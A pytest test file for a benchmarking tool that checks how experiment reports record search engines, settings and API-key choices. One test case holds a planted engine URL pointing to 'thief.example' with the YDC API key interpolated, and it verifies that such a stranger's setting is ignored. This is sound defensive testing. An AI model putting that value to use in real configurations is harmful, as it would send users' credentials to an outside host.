"""What a report says an experiment was done with: engine or documents, settings, topics."""

import json
from pathlib import Path
from typing import Any

import pytest
from judge_llm import FakeModel
from test_experiments import data, described, model, run

from storm_bench.experiments import ExperimentConfig, ExperimentStore, results_of
from storm_pipeline.errors import SettingsError

__all__ = ["data", "model"]  # fixtures
ENGINE = {"corpus": "engine"}


def facts(config: ExperimentConfig, folder: Path) -> dict[str, str]:
    return dict(run(config, folder).facts)


def searching_nothing(model: FakeModel, **values: Any) -> ExperimentConfig:
    """Methods that ask no engine whatever they are to search with, on one topic."""
    return described(model, "direct", metrics=["shape"], **values).with_overrides(topics=1)


@pytest.fixture(autouse=True)
def key(monkeypatch: pytest.MonkeyPatch) -> None:
    """The engine that is chosen where none is named is you."""
    monkeypatch.setenv("YDC_API_KEY", "none")


def test_a_method_with_its_own_engine_is_listed_separately(data: Path, model: FakeModel, tmp_path: Path) -> None:
    methods = [
        {"recipe": "direct"},
        {"name": "offline", "recipe": "direct", "settings": {"search": "wiki-leads"}},
        {"name": "again", "recipe": "direct"},
    ]
    told = facts(searching_nothing(model, search=ENGINE, methods=methods), tmp_path / "out")
    assert told["search"] == "engine you; offline: engine wiki-leads"
    assert "search" not in told["settings"]
    assert "offline" not in told["settings"]


@pytest.mark.parametrize("settings", [{}, {"search": "auto"}], ids=["unnamed", "auto"])
def test_an_automatically_chosen_engine_is_kept(
    data: Path, model: FakeModel, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, settings: dict[str, str]
) -> None:
    methods = [{"recipe": "direct"}, {"name": "web", "recipe": "direct", "search": ENGINE, "settings": settings}]
    config = searching_nothing(model, methods=methods)
    monkeypatch.delenv("YDC_API_KEY")
    monkeypatch.setattr("storm_pipeline.sources.search.registry.responds", lambda _: False)
    first = facts(config, tmp_path / "out")["search"]
    assert first.startswith("topic documents, mixed, ")
    assert not first.endswith("; web: engine you")
    monkeypatch.setenv("YDC_API_KEY", "none")
    assert facts(config, tmp_path / "out")["search"] == first


def test_a_paid_engine_of_the_folder_is_the_users_to_name(
    data: Path, model: FakeModel, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    config = searching_nothing(model, search=ENGINE)
    assert facts(config, tmp_path / "out")["search"] == "engine you"
    monkeypatch.setenv("SERPER_API_KEY", "none")
    monkeypatch.delenv("YDC_API_KEY")
    with pytest.raises(SettingsError, match="--search you"):
        run(config, tmp_path / "out")
    named = config.with_overrides(settings={"search": "you"})
    monkeypatch.setenv("YDC_API_KEY", "none")
    assert facts(named, tmp_path / "out")["search"] == "engine you"


@pytest.mark.parametrize("recorded", [{"search": "searxng:http://thief.example/${YDC_API_KEY}"}, {"search": 5}, []])
def test_an_engine_of_a_strangers_folder_is_not_asked(
    data: Path, model: FakeModel, tmp_path: Path, recorded: object
) -> None:
    kept = {"units": [], "metrics": {}, "facts": {}, "topics": {}, "notes": []}
    (tmp_path / "out").mkdir()
    state = {"format": 1, "config": {"settings": recorded}, **kept}
    (tmp_path / "out" / "experiment.json").write_text(json.dumps(state), "utf-8")
    assert facts(searching_nothing(model, search=ENGINE), tmp_path / "out")["search"] == "engine you"


def test_no_local_path_is_reported(data: Path, model: FakeModel, tmp_path: Path) -> None:
    (data / "topics" / "2.json.gz").write_text("{", encoding="utf-8")
    methods = [
        {"recipe": "direct"},
        {"name": "official", "recorded": str(tmp_path / "official")},
        {"name": "own corpus", "recipe": "rr", "search": ENGINE, "settings": {"search": f"corpus:{tmp_path}/texts"}},
    ]
    wordnet = {"wordnet": str(tmp_path / "wordnet")}
    config = described(model, "direct", metrics=["shape", "meteor"], methods=methods, resources=wordnet)
    results = run(config, tmp_path / "out")
    assert [bool(result.failure) for result in results.results] == [False, True, True]
    official, own = (result.failure for result in results.results[1:])
    assert official == "official has no run on 'Silk Road': a run is a folder 1 or Silk_Road with url_to_info.json"
    assert "texts" in own
    assert any(note.startswith("meteor is left out: METEOR needs WordNet") for note in results.notes)
    assert str(tmp_path) not in str(results)
    report = (tmp_path / "out").rename(tmp_path / "moved")
    with ExperimentStore(report, read_only=True) as store:
        assert str(tmp_path) not in str(results_of(store))
